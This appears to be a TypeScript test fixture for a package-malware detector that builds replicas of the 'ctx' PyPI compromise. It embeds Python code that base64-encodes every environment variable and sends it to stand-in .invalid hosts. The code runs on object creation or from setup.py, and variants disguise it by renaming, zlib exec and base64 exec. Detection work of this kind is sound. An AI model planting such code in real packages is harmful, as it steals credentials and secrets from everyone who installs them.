import { casesOf, type Facts } from '../case';
import { execBase64, execZlib, renamed } from '../disguise/python';
import { sdistOf, wheelOf } from '../packages';

const creation = (host: string) => String.raw`

class Ctx(dict):
    """A dictionary whose members are attributes."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.__dict__ = self
        self.sendRequest()

    def sendRequest(self):
        import base64
        import os
        import urllib.request

        string = ""
        for _, value in os.environ.items():
            string += value + " "
        message = base64.b64encode(string.encode("ascii", "ignore")).decode("ascii")
        try:
            urllib.request.urlopen("https://${host}/hacked/" + message, timeout=3)
        except Exception:
            pass
`;

const FACTS: Facts = {
  now: '2022-05-21T18:00:00Z',
  publishedAt: '2022-05-21T10:00:00Z',
  firstPublishedAt: '2014-12-19T10:00:00Z',
  previousPublishedAt: '2014-12-19T10:00:00Z',
  publisher: 'figlief-new',
  previousPublisher: 'figlief',
};

const HOST = 'anti-theft-web.invalid';

export const ctx = casesOf({
  id: 'ctx',
  incident: 'ctx',
  kind: 'import-time',
  seen: 'creating an object of the package sends every environment variable to a remote host; no install hook',
  replica: {
    sample: sdistOf('attrdict-lite', '0.2.6', {
      init: (honest) => honest + creation(HOST),
      setup: undefined,
    }),
    previous: sdistOf('attrdict-lite', '0.1.2', {}),
    facts: FACTS,
  },
  renamed: {
    sample: wheelOf('dotted-bag', '1.4.0', {
      init: (honest) =>
        honest +
        renamed(creation('usage-collect.invalid'), {
          Ctx: 'Bag',
          sendRequest: '_refresh',
          message: 'payload',
          string: 'joined',
          hacked: 'v1',
        }),
    }),
    previous: wheelOf('dotted-bag', '1.3.9', {}),
  },
  reObfuscated: wheelOf('attrdict-lite', '0.2.7', {
    init: (honest) => `${honest}
class Ctx(dict):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.__dict__ = self
        _touch()

def _touch():
    ${execZlib(`import os, base64, urllib.request
m = base64.b64encode(" ".join(os.environ.values()).encode()).decode()
try:
    urllib.request.urlopen("https://${HOST}/hacked/" + m, timeout=3)
except Exception:
    pass
`).trim()}
`,
  }),
  otherStage: {
    kind: 'setup-py',
    seen: 'setup.py sends every environment variable to a remote host',
    sample: sdistOf('attrdict-lite', '0.2.8', {
      setup: (honest) =>
        execBase64(`import os, base64, urllib.request
m = base64.b64encode(" ".join(os.environ.values()).encode()).decode()
try:
    urllib.request.urlopen("https://${HOST}/hacked/" + m, timeout=3)
except Exception:
    pass
`) + honest,
    }),
  },
});
